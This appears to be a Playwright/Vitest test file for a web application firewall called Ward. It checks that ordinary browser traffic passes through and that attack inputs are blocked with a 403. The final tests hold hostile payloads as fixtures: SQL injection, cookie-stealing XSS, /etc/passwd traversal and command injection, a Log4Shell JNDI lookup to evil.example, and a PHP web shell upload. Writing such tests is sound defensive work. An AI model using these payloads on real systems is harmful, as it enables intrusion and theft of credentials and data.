/** A real browser uses an ordinary application through Ward and notices nothing; attacks it carries are refused. */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { chromium } from 'playwright-core';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startBrowserApp } from './browser-app.ts';
import type { BrowserApp } from './browser-app.ts';
import { RunningWard } from './ward-process.ts';

const CHROMIUM = '/usr/bin/chromium';
const ARGS = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

let browser: Browser;

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: install the Debian package "chromium"`);
  browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ARGS });
});
afterAll(async () => {
  await browser?.close();
});

describe.each(['uws', 'node'])('a browser in front of the %s listener', (listener) => {
  let app: BrowserApp;
  let ward: RunningWard;
  let page: Page;

  beforeAll(async () => {
    app = await startBrowserApp();
    ward = await RunningWard.start(['--upstream', app.url, '--listener', listener]);
    page = await browser.newPage();
  });
  afterAll(async () => {
    await page?.close();
    await ward?.stop();
    await app?.close();
  });

  it('loads the page with its style sheet', async () => {
    await page.goto(ward.url);
    expect(await page.title()).toBe('Shop');
    expect(await page.evaluate('getComputedStyle(document.body).color')).toBe('rgb(1, 2, 3)');
  });

  it('receives an event stream as it is sent', async () => {
    await page.goto(ward.url);
    await page.locator('#events li').nth(2).waitFor();
    expect(await page.locator('#events li').allTextContents()).toEqual(['1', '2', '3']);
  });

  it('talks over a WebSocket, text and binary', async () => {
    await page.goto(ward.url);
    await page.locator('#messages li').nth(1).waitFor();
    expect(await page.locator('#messages li').allTextContents()).toEqual([
      'you said hello',
      'binary 1,2,255',
    ]);
  });

  it('sends forms, follows a redirect and keeps its cookie', async () => {
    await page.goto(ward.url);
    await page.fill('#search input', 'O’Reilly & Söhne: "50% off"');
    await page.click('#search button');
    expect(await page.textContent('#found')).toBe('O’Reilly & Söhne: "50% off"');
    await page.goto(ward.url);
    await page.fill('#order input', 'Tea');
    await page.fill(
      '#order textarea',
      'Leave it at the door,\nthe union of tea & biscuits; do not ring (it’s broken).',
    );
    await page.click('#order button');
    expect(await page.textContent('#order')).toContain('Tea: Leave it at the door');
    expect(await page.textContent('#order')).toContain('(sid=abc)');
  });

  it('uploads a file whose bytes arrive as they are', async () => {
    const bytes = randomBytes(3_000_000);
    await page.goto(ward.url);
    await page.fill('#upload input[name=title]', 'Holiday');
    await page.setInputFiles('#upload input[type=file]', {
      name: 'tür.bin',
      mimeType: 'image/png',
      buffer: bytes,
    });
    await page.click('#upload button');
    const [title, , size, sha256] = ((await page.textContent('#file')) ?? '').split('|');
    expect([title, size, sha256]).toEqual([
      'Holiday',
      '3000000',
      createHash('sha256').update(bytes).digest('hex'),
    ]);
  });

  it.each([
    "1' UNION SELECT username, password FROM users-- -",
    "' OR '1'='1",
    '1; DROP TABLE users--',
    "1' AND SLEEP(5)-- -",
    '<script>alert(document.cookie)</script>',
    '"><img src=x onerror=alert(1)>',
    '../../../../etc/passwd',
    '; cat /etc/passwd',
    '${jndi:ldap://evil.example/a}',
  ])('is refused when it searches for %s', async (payload) => {
    await page.goto(ward.url);
    const before = app.seen.filter((line) => line.startsWith('GET /search')).length;
    await page.fill('#search input', payload);
    const [response] = await Promise.all([
      page.waitForResponse((candidate) => candidate.url().includes('/search')),
      page.click('#search button'),
    ]);
    expect(response.status()).toBe(403);
    expect(await page.textContent('h1')).toBe('403 Forbidden');
    expect(app.seen.filter((line) => line.startsWith('GET /search'))).toHaveLength(before);
  });

  it('is refused when a form or a file name carries the attack', async () => {
    await page.goto(ward.url);
    await page.fill('#order textarea', "x' UNION ALL SELECT card FROM payments-- ");
    await page.click('#order button');
    expect(await page.textContent('h1')).toBe('403 Forbidden');
    await page.goto(ward.url);
    const buffer = Buffer.from('<?php system($_GET[0]); ?>');
    await page.setInputFiles('#upload input[type=file]', {
      name: 'shell.php',
      mimeType: 'image/png',
      buffer,
    });
    await page.click('#upload button');
    expect(await page.textContent('h1')).toBe('403 Forbidden');
  });
});
